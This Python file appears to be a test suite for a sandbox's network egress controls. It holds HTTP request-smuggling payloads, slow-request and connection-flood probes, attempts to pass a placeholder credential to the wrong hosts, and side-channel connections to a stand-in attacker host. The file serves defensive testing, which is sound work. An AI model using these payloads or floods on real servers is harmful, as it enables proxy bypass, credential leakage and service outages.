"""Further ways out: smuggled requests, floods, credentials, other channels."""

import base64
import os
import socket
import time

from egress_base import (
    CAUGHT,
    EVIL,
    HTTP,
    WAIT,
    WEB,
    Stopped,
    ask,
    connect,
    dial,
    https,
    now,
    request,
    status_of,
    unverified,
)

# -- smuggling: two readers that see different requests


def smuggle(more, body):
    hidden = f"GET /mark-{now.mark} HTTP/1.1\r\nHost: web.example.test\r\n\r\n"
    target = "http://web.example.test" if now.inside else ""
    data = f"POST {target}/first HTTP/1.1\r\nHost: web.example.test\r\n{more}\r\n\r\n{body + hidden}"
    sock = dial("127.0.0.1", HTTP) if now.inside else dial(WEB, 80)
    sock.sendall(data.encode("latin-1"))
    sock.settimeout(3)
    got = b""
    try:
        while got.count(b"HTTP/1.1 ") < 2:
            piece = sock.recv(65536)
            if not piece:
                break
            got += piece
    except TimeoutError:
        pass
    status_of(got)
    if got.count(b"HTTP/1.1 2") < 2:
        raise Stopped("one answer")


def smuggling_both_lengths():
    smuggle("Content-Length: 999\r\nTransfer-Encoding: chunked", "0\r\n\r\n")


def smuggling_two_lengths():
    smuggle("Content-Length: 999\r\nContent-Length: 0", "")


def smuggling_odd_coding():
    smuggle("Content-Length: 999\r\nTransfer-Encoding: xchunked, chunked", "0\r\n\r\n")


def smuggling_bare_newline():
    smuggle("X: y\nContent-Length: 999\r\nContent-Length: 0", "")


def smuggling_space():
    smuggle("Content-Length : 999\r\nContent-Length: 0", "")


# -- too much of it: the door still serves afterwards


def serves():
    https(connect("api.example.test", 443), "api.example.test", path="/still-there", verify=now.inside)


def oversized_headers():
    if now.inside:
        sock = dial("127.0.0.1", HTTP)
        try:
            sock.sendall(b"GET http://web.example.test/ HTTP/1.1\r\nHost: web.example.test\r\n")
            for number in range(64):
                sock.sendall(b"X-%d: " % number + b"a" * 32768 + b"\r\n")
            status_of(sock.recv(1000))
        except (OSError, Stopped):
            pass
        else:
            raise Stopped("taken")
    serves()


def slow_requests():
    held = []
    for _ in range(60 if now.inside else 0):
        sock = dial("127.0.0.1", HTTP)
        sock.sendall(b"GET http://web.example.test/ HT")
        held.append(sock)
    serves()


def slow_readers():
    held = []
    for _ in range(8 if now.inside else 0):
        sock = dial("127.0.0.1", HTTP)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(request("web.example.test", "/big", target="http://web.example.test"))
        held.append(sock)
    serves()


def flood():
    held = []
    for _ in range(320 if now.inside else 0):
        try:
            sock = socket.create_connection(("127.0.0.1", HTTP), 2)
            sock.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
            held.append(sock)
        except OSError:
            break
    for sock in held:
        sock.close()
    end = time.monotonic() + 60
    while True:
        try:
            return serves()
        except (OSError, Stopped):
            if time.monotonic() > end:
                raise
            time.sleep(0.2)


# -- credentials: the sandbox sees a placeholder, which is worth something at one host only


def bearer(sock, host, token, tls=True, target=""):
    data = request(host, more=f"Authorization: {token}\r\n", target=target)
    if not tls:
        return ask(sock, data)
    with unverified().wrap_socket(sock, server_hostname=host) as wrapped:
        return ask(wrapped, data)


def placeholder_bound():
    bearer(connect("keyed.example.test", 443), "keyed.example.test", "Bearer " + os.environ["PLACEHOLDER"])


def placeholder_elsewhere():
    target = "http://web.example.test" if now.inside else ""
    sock = dial("127.0.0.1", HTTP) if now.inside else dial(WEB, 80)
    bearer(sock, "web.example.test", "Bearer " + os.environ["PLACEHOLDER"], tls=False, target=target)


def placeholder_encoded():
    word = base64.b64encode(b"user:" + os.environ["PLACEHOLDER"].encode()).decode()
    bearer(connect("inspected.example.test", 443), "inspected.example.test", "Basic " + word)


def placeholder_passed():
    bearer(connect("api.example.test", 443), "api.example.test", "Bearer " + os.environ["PLACEHOLDER"])


# -- other ways


def abstract_socket():
    """A relay of a helper on the host, in the namespace of abstract names."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.connect("\0" + os.environ["RELAY"])
    ask(sock, request("evil.attacker.test"))


def neighbour():
    """A relay in another sandbox, which may do more: same port, same loopback address."""
    ask(dial("127.0.0.1", 7777), request("evil.attacker.test"))


def agent_ports():
    """The port for caught connections, spoken to without having been caught."""
    if not now.inside:
        return ask(dial(EVIL, 80), request("evil.attacker.test"))
    return ask(dial("127.0.0.1", CAUGHT), request("evil.attacker.test"))


def pass_descriptor():
    """An inherited or received descriptor of a socket outside would be a way: none is there."""
    for number in range(3, 256):
        try:
            sock = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        if sock.family in (socket.AF_INET, socket.AF_INET6):
            raise Stopped("reached")
    if not now.inside:
        return ask(dial(EVIL, 80), request("evil.attacker.test"))
    raise Stopped("none")
